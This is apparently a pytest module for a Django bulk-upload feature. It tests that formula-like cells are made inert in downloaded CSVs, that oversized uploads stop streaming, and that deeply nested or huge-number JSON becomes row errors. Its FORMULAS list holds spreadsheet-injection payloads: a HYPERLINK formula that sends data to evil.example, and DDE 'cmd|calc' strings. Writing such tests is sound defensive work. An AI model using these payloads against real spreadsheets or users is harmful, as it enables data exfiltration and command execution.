"""Bulk jobs against hostile files: formulas in the downloads, bodies over the size limit,
numbers and nesting that break a parser, and error files made to grow quadratically."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler, TemporaryFileUploadHandler
from django.http.multipartparser import MultiPartParser
from django.test import Client
from django.test.client import FakePayload, encode_multipart
from django.urls import reverse
from pytest_django.fixtures import Settings

from catalog_bulk.models import BulkJob, BulkRow, JobState, RowOp
from catalog_bulk.services import bulk_job_parse, bulk_job_upload, bulk_sweep, upload_dir
from catalog_bulk.uploads import UploadLimitHandler
from catalogs.models import Catalog
from console.roles import Role
from tests.catalog_bulk.conftest import MakeJob

pytestmark = pytest.mark.django_db

ClientFor = Callable[[Role | None], Client]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _download(client: Client, view: str, job: BulkJob) -> list[list[str]]:
    response = client.get(reverse(view, args=[job.catalog.name, job.pk]))
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body, newline="")))


def _csv_file(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


# --- spreadsheet formulas ----------------------------------------------------------------------


def test_errors_csv_makes_formulas_inert_and_the_fixed_file_gives_back_the_values(
    client_for: ClientFor, make_job: MakeJob
) -> None:
    rows = [["id", "name", "price"]] + [[f"new-{n}", v, "cheap"] for n, v in enumerate(FORMULAS)]
    job = make_job(_csv_file(rows))
    assert job.n_error == len(FORMULAS)

    errors = _download(client_for(Role.VIEWER), "catalog_bulk:errors", job)
    names = [row[1] for row in errors[1:]]
    assert names == ["'" + v for v in FORMULAS]
    # The reason column is inert too, whatever the value quoted in it.
    assert all(row[3][:1] not in "=+-@\t\r" for row in errors[1:])

    # Fix the prices in the downloaded file and send it back as it is otherwise.
    fixed = [errors[0]] + [[row[0], row[1], "2", row[3]] for row in errors[1:]]
    again = make_job(_csv_file(fixed))
    assert (again.state, again.n_error, again.n_create) == (JobState.READY, 0, len(FORMULAS))
    stored = BulkRow.objects.filter(job=again).order_by("line")
    payloads = [(r.payload or {}).get("name") for r in stored]
    assert payloads == FORMULAS


def test_report_csv_makes_formula_like_ids_and_reasons_inert(
    client_for: ClientFor, make_job: MakeJob
) -> None:
    job = make_job(b"id,name\n-sku,a\n=cmd|calc,b\n@x,c\n")
    report = _download(client_for(Role.VIEWER), "catalog_bulk:report", job)
    ids = [row[1] for row in report[1:]]
    assert ids == ["'-sku", "'=cmd|calc", "'@x"]
    assert all(cell[:1] not in "=+-@\t\r" for row in report for cell in row if cell)


# --- uploads over the size limit ---------------------------------------------------------------

BOUNDARY = "BoUnDaRyStRiNg"


class _CountingStream(io.BytesIO):
    """The request body, counting what the parser takes from it."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


class _Written(FileUploadHandler):
    """Stands after the limit in the chain: what it sees is what would reach the disk."""

    written = 0

    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes | None:
        self.written += len(raw_data)
        return raw_data

    def file_complete(self, file_size: int) -> None:
        return None


def _parse_upload(
    file_bytes: int, limit: int, upload_tmp: Path
) -> tuple[UploadLimitHandler, _Written, _CountingStream, Any, Any]:
    body = encode_multipart(
        BOUNDARY,
        {"operation": "upsert", "file": SimpleUploadedFile("big.csv", b"x" * file_bytes)},
    )
    stream = _CountingStream(body)
    meta = {
        "CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}",
        "CONTENT_LENGTH": str(len(body)),
    }
    limiter, written = UploadLimitHandler(limit=limit), _Written()
    handlers = [limiter, written, TemporaryFileUploadHandler()]
    post, files = MultiPartParser(meta, stream, handlers).parse()
    return limiter, written, stream, post, files


def test_the_upload_handler_stops_a_file_at_the_limit_while_it_streams(
    settings: Settings, tmp_path: Path
) -> None:
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # every byte that passes goes to a temporary file
    limit = 1_000_000
    # Just over the limit: within the room the form's other fields may take, so the file
    # itself must be counted as it streams.
    limiter, written, stream, post, files = _parse_upload(limit + 60_000, limit, tmp_path)
    assert limiter.refused
    assert "file" not in files
    assert post["operation"] == "upsert"  # the fields before the file are kept
    assert written.written <= limit  # never more than the limit reaches a file
    assert stream.taken < limit + 60_000  # and the rest of the body is never read
    assert list(tmp_path.iterdir()) == []  # the partial temporary file is gone


def test_a_body_announced_far_over_the_limit_is_refused_before_the_file_is_read(
    settings: Settings, tmp_path: Path
) -> None:
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    size = 5_000_000
    limiter, written, stream, _post, files = _parse_upload(size, 10_000, tmp_path)
    assert limiter.refused
    assert "file" not in files
    assert written.written == 0
    assert stream.taken < 200_000  # a read chunk or two of a 5 MB body
    assert list(tmp_path.iterdir()) == []


def test_the_upload_screen_stops_reading_a_file_over_the_limit_and_stores_nothing(
    client_for: ClientFor,
    catalog: Catalog,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    settings.BULK_MAX_UPLOAD_BYTES = 1024 * 1024
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    content = b"id,name\n" + b"sku-9,x\n" * 400_000  # 3.2 MB
    taken = [0]
    read = FakePayload.read

    def counting(self: FakePayload, size: int = -1) -> bytes:
        data = read(self, size)
        taken[0] += len(data)
        return data

    monkeypatch.setattr(FakePayload, "read", counting)
    response = client_for(Role.EDITOR).post(
        reverse("catalog_bulk:upload", args=[catalog.name]),
        {"operation": "delete", "file": SimpleUploadedFile("items.csv", content)},
    )
    assert response.status_code == 200
    assert taken[0] < 256 * 1024  # of a 3.2 MB body: the upload stopped at its start
    assert list(tmp_path.iterdir()) == []  # no temporary copy of it either
    page = response.content.decode()
    assert "The file is larger than 1 MB; split it and upload the parts." in page
    assert '<option value="delete" selected>' in page
    assert not BulkJob.objects.exists()
    assert not upload_dir().exists() or list(upload_dir().iterdir()) == []


def test_the_upload_still_checks_the_csrf_token(catalog: Catalog, editor: User) -> None:
    # The view takes the CSRF check inside (after installing the handler), not away.
    client = Client(enforce_csrf_checks=True)
    client.force_login(editor)
    response = client.post(
        reverse("catalog_bulk:upload", args=[catalog.name]),
        {"operation": "upsert", "file": SimpleUploadedFile("items.csv", b"id,name\nsku-9,x\n")},
    )
    assert response.status_code == 403
    assert not BulkJob.objects.exists()


# --- files that break a parser ------------------------------------------------------------------


@pytest.fixture
def with_object_field(catalog: Catalog) -> Catalog:
    catalog.fields = [*catalog.fields, {"name": "meta", "type": "object"}]
    catalog.save()
    return catalog


def _errors(job: BulkJob) -> dict[int, list[str]]:
    return {
        row.line: row.errors
        for row in BulkRow.objects.filter(job=job, op=RowOp.ERROR).order_by("line")
    }


def test_a_huge_integer_and_deep_nesting_in_json_lines_are_row_errors(
    make_job: MakeJob, with_object_field: Catalog
) -> None:
    lines = [
        b'{"id": "n-1", "price": ' + b"9" * 5000 + b"}",
        b'{"id": "n-2", "meta": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
        b'{"id": "n-3", "meta": ' + b'{"a": ' * 500 + b"1" + b"}" * 500 + b"}",
        b'{"id": "n-4", "name": "fine"}',
    ]
    job = make_job(b"\n".join(lines) + b"\n", name="items.jsonl")
    assert job.state == JobState.READY
    errors = _errors(job)
    assert "cannot be read" in errors[1][0]
    assert "digits" in errors[1][0]
    assert "nested too deeply" in errors[2][0]
    assert "nested too deeply" in errors[3][0]
    assert (job.n_error, job.n_create) == (3, 1)
    assert not Path(job.file_path).exists()


def test_a_deeply_nested_csv_object_cell_is_a_row_error(
    make_job: MakeJob, with_object_field: Catalog
) -> None:
    deep = "[" * 10_000 + "]" * 10_000
    job = make_job(_csv_file([["id", "meta"], ["d-1", deep], ["d-2", '{"a": 1}']]))
    assert job.state == JobState.READY
    assert "too-deep-nesting-in-value-object" in _errors(job)[2][0]
    assert (job.n_error, job.n_create) == (1, 1)
    assert not Path(job.file_path).exists()


def test_a_row_whose_check_crashes_is_a_row_error_not_a_stuck_job(
    make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    from catalog_bulk import validation

    real = validation.CsvRowChecker.check

    def crash_on_boom(self: validation.CsvRowChecker, cells: list[str]) -> Any:
        if cells[0] == "boom":
            raise RuntimeError("unexpected")
        return real(self, cells)

    monkeypatch.setattr(validation.CsvRowChecker, "check", crash_on_boom)
    job = make_job(b"id,name\nboom,x\nok-1,y\n")
    assert job.state == JobState.READY
    assert _errors(job)[2] == ["This row could not be checked; correct its values or leave it out."]
    assert BulkRow.objects.get(job=job, line=2).item_id == "boom"
    assert (job.n_error, job.n_create) == (1, 1)
    assert not Path(job.file_path).exists()


def test_a_json_line_whose_check_crashes_is_a_row_error_not_a_stuck_job(
    make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    from catalog_bulk import validation

    real = validation.check_row

    def crash_on_boom(**kwargs: Any) -> Any:
        if kwargs["values"].get("id") == "boom":
            raise RuntimeError("unexpected")
        return real(**kwargs)

    monkeypatch.setattr(validation, "check_row", crash_on_boom)
    job = make_job(b'{"id": "boom", "name": "x"}\n{"id": "ok-1", "name": "y"}\n', name="i.jsonl")
    assert job.state == JobState.READY
    assert "could not be checked" in _errors(job)[1][0]
    assert (job.n_error, job.n_create) == (1, 1)
    assert not Path(job.file_path).exists()


def test_a_parse_that_crashes_refuses_the_job_with_a_message_and_removes_the_file(
    make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    from catalog_bulk import parsing

    def broken(path: Path) -> Any:
        yield 2, ["a", "x"], ""
        raise RecursionError("somewhere deep")

    monkeypatch.setattr(parsing, "read_csv_cells", broken)
    job = make_job(b"id,name\na,x\n")
    assert job.state == JobState.INVALID
    assert "could not be read to the end" in job.file_errors[0]
    assert not BulkRow.objects.filter(job=job).exists()
    assert not Path(job.file_path).exists()


def test_the_sweeper_queues_a_parse_again_once_it_is_stale_and_gives_up_later(
    catalog: Catalog, editor: User, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    from catalog_bulk import tasks

    queued: list[tuple[int, str]] = []
    monkeypatch.setattr(
        tasks.bulk_parse_task, "delay", lambda job_id, workspace: queued.append((job_id, workspace))
    )
    settings.BULK_PARSE_STALE_SECONDS = 600
    settings.BULK_PARSE_GIVE_UP_SECONDS = 3600
    # The parse message was lost (the upload's on-commit hook never ran).
    job = bulk_job_upload(
        actor=editor,
        catalog=catalog,
        operation="upsert",
        upload=SimpleUploadedFile("items.csv", b"id,name\nsku-7,x\n"),
    )
    created = job.created_at

    assert bulk_sweep(now=created + timedelta(seconds=60)).parses_requeued == 0
    assert bulk_sweep(now=created + timedelta(seconds=601)).parses_requeued == 1
    assert queued == [(job.pk, "default")]  # in the job's workspace
    # Queued once per stale period, not on every sweep.
    assert bulk_sweep(now=created + timedelta(seconds=605)).parses_requeued == 0
    bulk_job_parse(job_id=queued[0][0])
    job.refresh_from_db()
    assert job.state == JobState.READY

    late = bulk_job_upload(
        actor=editor,
        catalog=catalog,
        operation="upsert",
        upload=SimpleUploadedFile("items.csv", b"id,name\nsku-8,x\n"),
    )
    bulk_sweep(now=late.created_at + timedelta(seconds=3601))
    late.refresh_from_db()
    assert late.state == JobState.INVALID
    assert "could not be read in time" in late.file_errors[0]
    assert not Path(late.file_path).exists()


# --- error files that grow with the square of the input ----------------------------------------


def test_distinct_unknown_keys_are_capped_per_row_per_job_and_in_errors_csv(
    client_for: ClientFor, make_job: MakeJob, settings: Settings
) -> None:
    settings.BULK_UNKNOWN_COLUMNS_NAMED = 3
    settings.BULK_ERROR_ROWS_WITH_VALUES = 10
    lines = [
        json.dumps({"id": f"u-{n}", "name": "x", **{f"k{n}_{k}": k for k in range(40)}})
        for n in range(30)
    ]
    job = make_job("\n".join(lines).encode(), name="items.jsonl")
    assert job.n_error == 30
    first = BulkRow.objects.get(job=job, line=1)
    assert len(first.errors) == 4  # three named, then one line for the other 37
    assert first.errors[-1] == "…and 37 more columns that are not fields of this catalog."
    assert len(first.raw or {}) == 2 + 3  # id, name and three of the unknown keys
    assert BulkRow.objects.filter(job=job, raw__isnull=False).count() == 10

    errors = _download(client_for(Role.VIEWER), "catalog_bulk:errors", job)
    header = errors[0]
    assert header[0] == "id"
    assert "name" in header
    assert len(header) == 2 + 3 + 1  # id, name, three unknown columns, the reasons
    assert all(len(row) == len(header) for row in errors)
    assert len(errors) == 31
    # Rows past the cap keep their id and reasons.
    assert errors[-1][0] == "u-29"
    assert set(errors[-1][1:-1]) == {""}
    assert "line 30" in errors[-1][-1]
